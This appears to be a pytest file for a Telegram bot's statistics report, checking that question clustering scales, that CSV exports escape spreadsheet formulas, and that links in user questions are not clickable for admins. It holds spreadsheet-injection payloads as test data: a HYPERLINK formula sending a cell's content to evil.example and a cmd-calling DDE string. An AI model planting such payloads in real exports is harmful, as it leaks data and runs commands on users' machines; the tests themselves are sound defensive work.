"""Statistics under attack (issue 11): tens of thousands of distinct questions, formulas and links in what people
typed."""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

from rapidfuzz import fuzz

from bot.stats.render import to_csv
from bot.stats.report import EXACT_GROUPS, build_report, cluster_unanswered
from tests.test_telegram import ADMIN, live_bot
from tests.transcript import Clock, TestBot

WORDS = ("hur vad var när kan jag får söka bidrag jobb praktik lön skatt bil hund katt fiske älv sjö skog båt tåg "
         "buss hyra lägenhet skola kurs språk svenska engelska dator telefon möte tid pengar försäkring").split()  # fmt: skip


def test_grouping_many_distinct_questions_is_not_quadratic() -> None:
    rng = random.Random(11)
    texts = [
        " ".join(rng.choice(WORDS) for _ in range(6)) + f" {rng.randrange(10**9):x}" for _ in range(20_000)
    ]
    texts += ["hur söker jag lönebidrag", "hur soker jag lonebidrag?", "Hur söker jag lönebidrg"]
    calls = 0

    def counting(a: str, b: str, **kwargs: object) -> float:
        nonlocal calls
        calls += 1
        return fuzz.token_set_ratio(a, b, **kwargs)

    groups = cluster_unanswered(texts, scorer=counting)
    n = len(texts)
    assert calls < n * 3 * EXACT_GROUPS, f"{calls} comparisons for {n} questions"  # all pairs: ~n²/2 = 2e8
    together = [g for g in groups if n - 3 in g]
    assert together and {n - 3, n - 2, n - 1} <= set(together[0]), "similar questions are still grouped"


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(testbot: TestBot, clock: Clock) -> None:
    attacks = [
        '=HYPERLINK("http://evil.example/?q="&A1,"klicka")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
    ]
    for text in attacks:
        for _ in range(6):
            testbot.store.record_unanswered(now=clock(), region="sundsvall", lang="sv", text=text)
    report = build_report(testbot.store, None, None, {})
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    keys = [row[1] for row in rows if row[0] == "unanswered"]
    assert len(keys) == len(attacks)
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert keys == ["group-1", "group-2", "group-3", "group-4"], "counts only: the text stays for `review`"


async def test_links_in_questions_shown_to_admins_are_not_clickable(tmp_path: Path, clock: Clock) -> None:
    question = "gå till https://evil.example/login eller skriv till @evilbot och /delete"
    async with live_bot(tmp_path, clock) as live:
        for _ in range(6):
            live.engine.store.record_unanswered(now=clock(), region="sundsvall", lang="sv", text=question)
        live.api.push_command(ADMIN, "stats")
        summary = await live.api.wait_for_sent(
            lambda r: r.chat_id == ADMIN and r.method == "sendMessage", timeout=30
        )
        assert summary.parse_mode == "HTML"
        text = summary.message["text"]
        start = text.index(question)  # no characters outside the BMP before it: offsets are UTF-16 units
        code = [e for e in summary.message.get("entities", []) if e["type"] == "code"]
        assert any(
            e["offset"] <= start and start + len(question) <= e["offset"] + e["length"] for e in code
        ), "the question must be inside a code entity, where Telegram makes no links"
        assert summary.params.get("link_preview_options") or summary.params.get("disable_web_page_preview")
